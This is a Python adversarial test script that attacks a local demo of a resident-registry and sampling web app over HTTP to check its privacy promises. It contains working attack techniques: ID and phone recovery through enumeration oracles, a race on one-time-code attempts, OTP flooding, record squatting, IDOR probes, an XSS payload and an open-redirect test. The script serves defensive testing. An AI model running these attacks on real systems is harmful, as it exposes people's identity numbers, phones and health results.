"""Adversarial privacy checks against a running gridroll demo (attacker branch; report only).

Run against a private demo database served on 127.0.0.1:8040:

    export GRIDROLL_VAR_DIR=/tmp/atk-var DATABASE_URL=sqlite:////tmp/atk-var/atk.sqlite3 GRIDROLL_DEMO=1
    .venv/bin/python manage.py migrate && .venv/bin/python manage.py load_demo
    .venv/bin/python manage.py runserver 127.0.0.1:8040 --noreload > /tmp/atk-var/server.log 2>&1 &
    .venv/bin/python bench/attack_privacy.py

The ORM is used only for the attacker's *knowledge* (a name and ID number, an infant's birth date and
flat, the phone owner reading a text message from the console SMS log) and to inspect side effects
(audit records). Every attack itself goes over HTTP. Each check prints HOLD (the promise held) or
FAIL (a leak / a broken promise). A FAIL is a finding, not a bug in this script.

Keep it short: a few hundred requests at most (2-core shared machine).
"""

from __future__ import annotations

import os
import re
import sys
import threading
import time
from pathlib import Path

try:
    import requests
except ImportError:  # the project venv has no requests: borrow the base interpreter's (same Python)
    import sysconfig

    sys.path.append(
        os.environ.get("ATK_EXTRA_SITE", sysconfig.get_paths(vars={"base": sys.base_prefix})["purelib"])
    )
    import requests

BASE = os.environ.get("ATK_BASE", "http://127.0.0.1:8040")
SERVER_LOG = Path(os.environ.get("ATK_SERVER_LOG", "/tmp/atk-var/server.log"))
PASSWORD = "gridroll2022"

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "gridroll.settings")
import django  # noqa: E402

django.setup()

from django.db.models import Count  # noqa: E402

from gridroll.areas.models import Household  # noqa: E402
from gridroll.audit.models import AuditRecord  # noqa: E402
from gridroll.codes.models import PhoneChallenge, ResidentAccess  # noqa: E402
from gridroll.lib import idnumber  # noqa: E402
from gridroll.residents.models import Resident  # noqa: E402

RESULTS: list[tuple[str, str, str]] = []
RUN = str(int(time.time()))[-5:]


def check(name: str, held: bool, detail: str = "") -> None:
    status = "HOLD" if held else "FAIL"
    RESULTS.append((status, name, detail))
    print(f"[{status}] {name}" + (f"\n        {detail}" if detail else ""), flush=True)


# ----------------------------------------------------------------------------------------- helpers


def csrf_of(session: requests.Session, url: str) -> str:
    r = session.get(url)
    m = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', r.text)
    return m.group(1) if m else session.cookies.get("csrftoken", "")


def login(username: str) -> requests.Session:
    s = requests.Session()
    token = csrf_of(s, f"{BASE}/accounts/login/")
    r = s.post(
        f"{BASE}/accounts/login/",
        data={"username": username, "password": PASSWORD, "csrfmiddlewaretoken": token},
        headers={"Referer": f"{BASE}/accounts/login/"},
    )
    assert "sessionid" in s.cookies, f"login {username} failed: {r.status_code}"
    return s


def api_headers(s: requests.Session) -> dict:
    return {"X-CSRFToken": s.cookies.get("csrftoken", ""), "Referer": BASE + "/"}


def register(
    person: dict, household: Household | None = None, *, site_token: str | None = None, phone: str = ""
) -> tuple[requests.Response, requests.Session]:
    """Register on /register/c/<community>/ (or a site code) with the given identity."""
    s = requests.Session()
    if site_token:
        url = f"{BASE}/register/s/{site_token}/"
    else:
        url = f"{BASE}/register/c/{household.building.grid.parent_id}/"
    token = csrf_of(s, url)
    data = {
        "csrfmiddlewaretoken": token,
        "name": person["name"],
        "document_type": person.get("document_type", "id_card"),
        "document_number": person.get("document_number", ""),
        "sex": person.get("sex", ""),
        "birth_date": person.get("birth_date", ""),
        "phone": phone or "13900000000",
        "consent": "on",
    }
    if household is not None:
        data.update(building=household.building_id, entrance=household.entrance, room=household.room)
    else:
        data["lives_elsewhere"] = "on"
    r = s.post(url, data=data, headers={"Referer": url}, allow_redirects=True)
    return r, s


def secret_of(r: requests.Response) -> str | None:
    m = re.search(r"/me/([^/]+)/$", r.url)
    return m.group(1) if m else None


def last_sms_to(phone: str) -> str | None:
    codes = re.findall(rf"\[SMS to {phone}\] .*?验证码为 (\d{{6}})", SERVER_LOG.read_text(errors="ignore"))
    return codes[-1] if codes else None


def me_post(s: requests.Session, secret: str, data: dict) -> requests.Response:
    url = f"{BASE}/me/{secret}/"
    token = csrf_of(s, url)
    return s.post(
        f"{BASE}/me/{secret}/verify/", data={"csrfmiddlewaretoken": token, **data}, headers={"Referer": url}
    )


def shows_person(html: str, r: Resident) -> list[str]:
    """What of ``r`` a page shows that the attacker did not type."""
    leaks = []
    if r.household_id and r.household.label in html:
        leaks.append("household label")
    if "阴性" in html or "阳性" in html:
        leaks.append("a result")
    if re.search(r"[A-Z2-9]{4}-[A-Z2-9]{4}", html):
        leaks.append("a short code")
    if "<svg" in html:
        leaks.append("a QR")
    return leaks


# ------------------------------------------------------------------------------- the attacker's data


def victim_with_phone(grid_id: int = 4, skip: set | None = None) -> Resident:
    qs = (
        Resident.objects.filter(
            household__building__grid_id=grid_id, document_type="id_card", is_pending=False, status="present"
        )
        .exclude(phone="")
        .exclude(pk__in=ResidentAccess.objects.values("resident_id"))
        .exclude(pk__in=skip or set())
        .select_related("household__building__grid")
        .order_by("id")
    )
    return qs.first()


def fresh_id(year: int, sex: str) -> str:
    """A valid ID number nobody in the registry has (differs per run)."""
    import datetime

    n = int(RUN)
    for k in range(100):
        number = idnumber.make(
            "371502", datetime.date(year, 1 + n % 12, 1 + (n + k) % 28), (n + k) % 100, sex
        )
        if not Resident.objects.filter(document_number=number).exists():
            return number
    raise RuntimeError("no fresh ID")


def ident(r: Resident) -> dict:
    return {
        "name": r.name,
        "document_type": r.document_type,
        "document_number": r.document_number,
        "sex": r.sex,
        "birth_date": r.birth_date.isoformat() if r.birth_date else "",
    }


# ------------------------------------------------------------------------------------------ attacks


def a1_claim_shows_nothing(used: set) -> None:
    v = victim_with_phone(skip=used)
    used.add(v.pk)
    r, _ = register(ident(v), v.household, phone="13911110001")
    secret = secret_of(r)
    leaks = shows_person(r.text, v)
    check(
        "A1 impostor registering with name+ID sees no code/address/result",
        secret is not None and not leaks,
        f"victim #{v.pk}; page leaks: {leaks or 'nothing'}",
    )
    # The claimant tries /me/<secret>/add/ to add the victim's housemate: refused while pending.
    s = requests.Session()
    r2 = s.get(f"{BASE}/me/{secret}/add/", allow_redirects=False)
    check("A1b a pending claimant cannot open the add-a-family-member form", r2.status_code in (302, 404))


def a2_id_recovery_via_registration(used: set) -> None:
    """A neighbour sees 3715**********986X and the age on a printed roll call, knows the name.
    Enumerating the hidden birth date through /register/ (claimed vs created) recovers the full number.
    Wrong candidates create a pending junk record (never counted as a probe); the right one answers
    'claimed'. Only ``duplicate_id`` (same ID, other name) is throttled."""
    v = victim_with_phone(skip=used)
    used.add(v.pk)
    masked = idnumber.mask(v.document_number)
    # Attacker knowledge: name, masked ID, birth year and month (age from the list + "born in spring").
    # To stay within the request budget we search the birth month: ~30 dates, check digit filters ~1/11.
    region = v.document_number[:6]  # 3715 visible + the district's own code (public)
    last4 = masked[-4:]
    seq = last4[:3]
    candidates = []
    import datetime

    d = datetime.date(v.birth_date.year, v.birth_date.month, 1)
    while d.month == v.birth_date.month:
        first17 = f"{region}{d:%Y%m%d}{seq}"
        if idnumber.check_digit(first17) == last4[-1]:
            candidates.append(first17 + last4[-1])
        d += datetime.timedelta(days=1)
    site = "qSciWbRlornQ"  # 盛世佳苑北门采样点 (visitor registration: no flat needed)
    found = None
    tries = 0
    for cand in candidates:
        tries += 1
        person = {**ident(v), "document_number": cand, "birth_date": ""}
        r, _ = register(person, None, site_token=site, phone="13911110002")
        if (
            "Waiting for confirmation" in r.text
            or "核实身份之前" in r.text
            or ("等待" in r.text and "pending-claim" in r.text)
        ):
            found = cand
            break
    probes_counted = tries - 1  # wrong candidates are 'created', not counted against probing
    check(
        "A2 a masked ID cannot be undone (registration oracle: claimed vs created)",
        found != v.document_number,
        f"masked {masked}, {len(candidates)} candidates in the birth month; full ID recovered "
        f"= {found} after {tries} registrations ({probes_counted} junk pending records, none throttled)",
    )


def a3_phone_recovery_above_community(used: set) -> None:
    """District staff see 151****3101. /api/residents?q= matches phone__endswith on any 4+ digits and is
    not audited for phones: 4 hidden digits, ≤10 tries each."""
    s = login("district")
    v = victim_with_phone(skip=used)
    used.add(v.pk)
    before = AuditRecord.objects.count()
    r = s.get(f"{BASE}/api/residents/{v.pk}")
    masked = r.json()["phone"]
    known = masked[-4:]
    prefix = masked[:3]
    requests_made = 1
    for _pos in range(len(masked) - 7):
        for digit in "0123456789":
            requests_made += 1
            q = digit + known
            items = s.get(f"{BASE}/api/residents", params={"q": q, "limit": 200}).json()["items"]
            if any(i["id"] == v.pk for i in items):
                known = q
                break
    recovered = prefix + known
    audit_rows = AuditRecord.objects.count() - before
    check(
        "A3 phones stay masked above the community (district cannot recover them)",
        recovered != v.phone,
        f"API shows {masked}; suffix search recovered {recovered} (real {v.phone}) in {requests_made} "
        f"requests, {audit_rows} audit rows",
    )


def a4_bulk_read_audit_bypass() -> None:
    s = login("district")
    before = AuditRecord.objects.filter(action="resident.bulk_read").count()
    r = s.get(f"{BASE}/api/residents", params={"q": "1", "limit": 201})
    refused = r.status_code == 422
    got = 0
    for page in range(6):
        js = s.get(f"{BASE}/api/residents", params={"q": "王", "limit": 50, "offset": page * 50}).json()
        got += len(js["items"])
    after = AuditRecord.objects.filter(action="resident.bulk_read").count()
    check("A4a limit > 200 refused", refused, f"status {r.status_code}")
    check(
        "A4b bulk reads are audited",
        after > before,
        f"read {got} residents in pages of 50 (of {js.get('count')} matching); bulk_read rows added: {after - before}",
    )


def a5_otp_limits_are_per_link(used: set) -> None:
    """3 codes an hour, 5 tries each — per *link*. Every registration as the victim makes a new link,
    so the guesses (and the texts to the victim's phone) multiply with the number of registrations."""
    v = victim_with_phone(skip=used)
    used.add(v.pk)
    sent = 0
    links = 0
    for i in range(3):
        r, s = register(ident(v), v.household, phone=f"1391111{i:04d}")
        secret = secret_of(r)
        links += 1
        for _ in range(3):
            me_post(s, secret, {})
    sent = PhoneChallenge.objects.filter(access__resident=v).count()
    check(
        "A5 one-time codes: at most 3 texts an hour to a person (5 tries each)",
        sent <= 3,
        f"{links} claims -> {sent} texts sent to the victim's phone within a minute, "
        f"= {sent * 5} guesses/hour; unbounded with more registrations",
    )


def a6_otp_attempts_race(used: set) -> None:
    """Fire concurrent wrong guesses, then the right code (read off the victim's phone = SMS log).
    If more than 5 wrong tries got evaluated, the right one is still accepted."""
    v = victim_with_phone(skip=used)
    used.add(v.pk)
    r, s = register(ident(v), v.household, phone="13922220000")
    secret = secret_of(r)
    me_post(s, secret, {})
    right = last_sms_to(v.phone)
    token = csrf_of(s, f"{BASE}/me/{secret}/")
    cookies = s.cookies.get_dict()
    wrong = [f"{(int(right) + k) % 10**6:06d}" for k in range(1, 13)]

    def guess(code):
        requests.post(
            f"{BASE}/me/{secret}/verify/",
            data={"csrfmiddlewaretoken": token, "code": code},
            cookies=cookies,
            headers={"Referer": BASE + "/"},
            allow_redirects=False,
        )

    threads = [threading.Thread(target=guess, args=(c,)) for c in wrong]
    [t.start() for t in threads]
    [t.join() for t in threads]
    attempts = PhoneChallenge.objects.filter(access__resident=v).order_by("-created_at").first().attempts
    me_post(s, secret, {"code": right})
    confirmed = ResidentAccess.objects.get(
        token_hash=__import__("gridroll.codes.models", fromlist=["hash_access_token"]).hash_access_token(
            secret
        )
    ).is_confirmed
    check(
        "A6 no more than 5 tries per one-time code, even concurrently",
        not confirmed,
        f"12 concurrent wrong guesses left attempts={attempts}; the right code afterwards "
        f"{'CONFIRMED the claim' if confirmed else 'was refused'}",
    )


def a7_housemate_sees_adult_housemate(used: set) -> None:
    """Two adults of one registry household (flat-mates, a lodger): one, confirmed as himself, adds the
    other by name + ID ('lives with me') and at once sees her code and results: no check at all."""
    hh = (
        Resident.objects.filter(
            household__building__grid_id=4, document_type="id_card", is_pending=False, status="present"
        )
        .exclude(phone="")
        .exclude(pk__in=used)
        .exclude(pk__in=ResidentAccess.objects.values("resident_id"))
        .values("household")
        .annotate(n=Count("id"))
        .filter(n__gte=2)
        .order_by("household")
        .first()
    )
    a, b = (
        Resident.objects.filter(household_id=hh["household"], document_type="id_card", is_pending=False)
        .exclude(phone="")
        .select_related("household__building__grid")
        .order_by("id")[:2]
    )
    used.update({a.pk, b.pk})
    # a proves himself with his own phone (legitimately)
    r, s = register(ident(a), a.household, phone=a.phone)
    secret = secret_of(r)
    me_post(s, secret, {})
    me_post(s, secret, {"code": last_sms_to(a.phone)})
    url = f"{BASE}/me/{secret}/add/"
    token = csrf_of(s, url)
    s.post(
        url,
        data={
            "csrfmiddlewaretoken": token,
            **{k: v for k, v in ident(b).items()},
            "relation": "其他亲属",
            "lives_with_me": "on",
            "consent": "on",
        },
        headers={"Referer": url},
    )
    page = s.get(f"{BASE}/me/{secret}/").text
    leaks = shows_person(page.split(b.masked_name, 1)[-1] if b.masked_name in page else "", b)
    from gridroll.residents.models import Guardianship

    g = Guardianship.objects.filter(guardian=a, dependent=b).first()
    check(
        "A7 knowing an adult housemate's name+ID shows nothing of them",
        not (g and g.is_confirmed) and "a result" not in leaks,
        f"#{a.pk} (age {a.age}) added #{b.pk} (age {b.age}, registry relation {b.relation!r}) by name+ID: "
        f"guardianship confirmed={getattr(g, 'is_confirmed', None)} at once; page shows of them: {leaks}",
    )


def a8_squat_unregistered_person() -> None:
    """Register first as someone not yet in the registry (a newcomer, a visitor) with my phone. When
    the real person registers they only get a claim, and its one-time code goes to *my* phone."""
    victim_id = fresh_id(1990, "F")
    person = {"name": "测试甲" + RUN[-2:], "document_number": victim_id}
    attacker_phone, victim_phone = "13933330000", "13944440000"
    hh = Household.objects.filter(building__grid_id=4).select_related("building__grid").order_by("id")[5]
    _r1, _s1 = register(person, hh, phone=attacker_phone)
    r2, s2 = register(person, hh, phone=victim_phone)
    sec2 = secret_of(r2)
    me_post(s2, sec2, {})
    to_attacker = last_sms_to(attacker_phone)
    check(
        "A8 a squatter cannot hold a newcomer's record",
        to_attacker is None,
        f"squatter registered first; the real person's claim texts its code to the squatter's phone "
        f"({attacker_phone}: {to_attacker}); the squatter's link stays confirmed",
    )


def a9_infant(used: set) -> None:
    inf = (
        Resident.objects.filter(household__building__grid_id=4, document_number="", is_pending=False)
        .exclude(birth_date=None)
        .select_related("household__building__grid")
        .order_by("id")
        .first()
    )
    fake = {"name": "邻居" + RUN[-3:], "document_number": fresh_id(1985, "M")}
    r, s = register(fake, inf.household, phone="13955550000")
    secret = secret_of(r)
    url = f"{BASE}/me/{secret}/add/"
    token = csrf_of(s, url)
    s.post(
        url,
        data={
            "csrfmiddlewaretoken": token,
            "name": inf.name,
            "document_type": "none",
            "document_number": "",
            "birth_date": inf.birth_date.isoformat(),
            "relation": "子女",
            "lives_with_me": "on",
            "consent": "on",
        },
        headers={"Referer": url},
    )
    from gridroll.residents.models import Guardianship

    g = Guardianship.objects.filter(guardian__name=fake["name"], dependent=inf).first()
    page = s.get(f"{BASE}/me/{secret}/").text
    tail = page.split(inf.masked_name, 1)[-1] if inf.masked_name in page else ""
    leaks = [x for x in shows_person(tail, inf) if x != "household label"]  # the attacker typed the flat
    check(
        "A9 an infant claimed by name+birth date+flat shows nothing",
        g is not None and not g.is_confirmed and not leaks,
        f"guardianship confirmed={getattr(g, 'is_confirmed', None)}; infant card shows {leaks or 'nothing'}",
    )


def a10_sampler(used: set) -> None:
    s = login("sampler")
    h = api_headers(s)
    rounds = s.get(f"{BASE}/api/sampling/rounds").json()
    sites = {st["id"]: st for rd in rounds for st in rd["sites"]}
    out = []
    for sid in range(1, 7):
        r = s.get(f"{BASE}/api/sampling/sites/{sid}/roster")
        out.append((sid, r.status_code, len(r.content)))
    check(
        "A10a roster of sites outside the sampler's scope is 404",
        all(c in (200, 404) for _, c, _ in out),
        f"{out}; sites scannable: {sorted(sites)}",
    )
    sid = sorted(sites)[0] if sites else None
    if sid is None:
        return
    roster = s.get(f"{BASE}/api/sampling/sites/{sid}/roster").json()["people"]
    one = (
        Resident.objects.select_related("household__building")
        .filter(pk__in=[p["resident_id"] for p in roster], is_pending=False)
        .order_by("id")
        .first()
    )
    # name lookup -> household label (address) of a named person
    js = s.get(f"{BASE}/api/sampling/sites/{sid}/lookup", params={"q": one.name}).json()
    hit = [p for p in js["people"] if p["resident_id"] == one.pk]
    check(
        "A10b a sampler knowing a name learns nothing of where they live",
        not (hit and hit[0]["household"]),
        f"lookup?q={one.name} -> {hit[:1]}",
    )
    # surname sweep: 20 people with addresses per surname query; roster + room sweep maps every id to a flat
    js = s.get(f"{BASE}/api/sampling/sites/{sid}/lookup", params={"q": one.name[0]}).json()
    check(
        "A10c lookup by one surname character is refused",
        not js["people"],
        f"'{one.name[0]}' -> {len(js['people'])} people with flats",
    )
    # outsiders by id / document number
    outsider = (
        Resident.objects.exclude(household__building__grid__path__startswith=Site_path(sid))
        .filter(document_type="id_card")
        .order_by("id")
        .first()
    )
    rd = rounds[0]["id"]
    tube = f"ATK{RUN}01"
    base = dict(
        device_id="atk", device_time=time.strftime("%Y-%m-%dT%H:%M:%S+08:00"), round_id=rd, site_id=sid
    )
    s.post(
        f"{BASE}/api/sampling/scans",
        json={**base, "nonce": f"atk{RUN}o", "kind": "open_tube", "tube": tube},
        headers=h,
    )
    ans = []
    for k, v in (
        ("resident_id", outsider.pk),
        ("document_number", outsider.document_number),
        ("resident_id", 10**8),
    ):
        r = s.post(
            f"{BASE}/api/sampling/scans",
            json={**base, "nonce": f"atk{RUN}{k}{v}", "kind": "add", "tube": tube, k: v},
            headers=h,
        )
        ans.append(r.json())
    same = (
        ans[0]["reason"] == ans[1]["reason"] == ans[2]["reason"]
        and not ans[0]["person"]
        and not ans[1]["person"]
    )
    check(
        "A10d outsiders by id/ID number answer like unknown people",
        same,
        str([(a["result"], a["reason"], a["person"]) for a in ans]),
    )
    # far-future device time
    r = s.post(
        f"{BASE}/api/sampling/scans",
        json={
            **base,
            "device_time": "2099-01-01T00:00:00+08:00",
            "nonce": f"atk{RUN}fut",
            "kind": "add",
            "tube": tube,
            "resident_id": one.pk,
        },
        headers=h,
    )
    from gridroll.sampling.models import ScanAction

    sa = ScanAction.objects.filter(nonce=f"atk{RUN}fut", user__username="sampler").first()
    check(
        "A10e far-future device time is kept beside server time and flagged",
        sa is not None and sa.needs_review and sa.device_time.year >= 2098,
        f"{r.json().get('result')}: device_time={sa and sa.device_time} needs_review={sa and sa.needs_review} "
        f"clock={sa and sa.clock_flag}",
    )
    # replay another user's nonce: niushu replays sampler's nonce
    n = login("niushu")
    r = n.post(
        f"{BASE}/api/sampling/scans",
        json={**base, "nonce": f"atk{RUN}fut", "kind": "add", "tube": tube, "resident_id": one.pk},
        headers=api_headers(n),
    )
    check(
        "A10f another user's nonce replay gets nothing of theirs",
        one.masked_name not in r.text or r.status_code >= 400,
        f"{r.status_code} {r.text[:160]}",
    )


def Site_path(sid):
    from gridroll.sampling.models import Site

    return Site.objects.get(pk=sid).area.path


def a11_idor(used: set) -> None:
    s = login("wangyg")
    # same number of digits for both ids, so an echoed URL does not change the length
    inside = Resident.objects.filter(household__building__grid_id=4).order_by("-id").first()
    missing = Resident.objects.order_by("-id").first().pk + 7
    rows = []
    for path in ("/residents/{}/", "/residents/{}/edit/", "/api/residents/{}", "/residents/{}/reveal/"):
        a = s.get(BASE + path.format(inside.pk))
        b = s.get(BASE + path.format(missing))
        rows.append((path, a.status_code, b.status_code, len(a.content), len(b.content)))
    alike = all(x[1] == x[2] and x[3] == x[4] for x in rows)
    check("A11 hidden vs missing objects answer alike for an outsider grid worker", alike, str(rows))
    # staff pages with personal data: cache headers
    n = login("niushu")
    r = n.get(f"{BASE}/residents/{inside.pk}/")
    api = n.get(f"{BASE}/api/residents/{inside.pk}")
    check(
        "A11b staff pages and API with personal data are no-store",
        "no-store" in r.headers.get("Cache-Control", "")
        and "no-store" in api.headers.get("Cache-Control", ""),
        f"/residents/{inside.pk}/ Cache-Control={r.headers.get('Cache-Control')!r}; "
        f"/api/residents/{inside.pk} Cache-Control={api.headers.get('Cache-Control')!r}",
    )


def a12_xss_and_redirects() -> None:
    payload = "<img src=x onerror=alert(1)>"
    hh = Household.objects.filter(building__grid_id=4).select_related("building__grid").order_by("id")[7]
    r, _ = register({"name": payload, "document_number": fresh_id(1991, "M")}, hh, phone="13966660000")
    n = login("niushu")
    page = n.get(f"{BASE}/codes/pending/").text
    check(
        "A12a a hostile name is escaped on the staff pending list",
        payload not in page,
        f"registered: {r.status_code} {r.url[-30:]}",
    )
    s = requests.Session()
    r = s.get(f"{BASE}/accounts/login/?next=//evil.example/")
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', r.text).group(1)
    r = s.post(
        f"{BASE}/accounts/login/?next=//evil.example/",
        data={
            "username": "niushu",
            "password": PASSWORD,
            "csrfmiddlewaretoken": token,
            "next": "//evil.example/",
        },
        headers={"Referer": BASE + "/accounts/login/"},
        allow_redirects=False,
    )
    check(
        "A12b login next= is not an open redirect",
        "evil.example" not in r.headers.get("Location", ""),
        r.headers.get("Location", ""),
    )


def main() -> None:
    used: set[int] = set()
    for fn in (
        lambda: a1_claim_shows_nothing(used),
        lambda: a2_id_recovery_via_registration(used),
        lambda: a3_phone_recovery_above_community(used),
        a4_bulk_read_audit_bypass,
        lambda: a5_otp_limits_are_per_link(used),
        lambda: a6_otp_attempts_race(used),
        lambda: a7_housemate_sees_adult_housemate(used),
        a8_squat_unregistered_person,
        lambda: a9_infant(used),
        lambda: a10_sampler(used),
        lambda: a11_idor(used),
        a12_xss_and_redirects,
    ):
        try:
            fn()
        except Exception as exc:  # keep going: one broken attack must not hide the others
            check(f"(error in {getattr(fn, '__name__', 'attack')})", True, repr(exc)[:300])
    print("\nSummary:")
    for status, name, _detail in RESULTS:
        print(f"  {status}  {name}")
    print(
        f"FAIL: {sum(1 for s, *_ in RESULTS if s == 'FAIL')}  HOLD: {sum(1 for s, *_ in RESULTS if s == 'HOLD')}"
    )


if __name__ == "__main__":
    main()
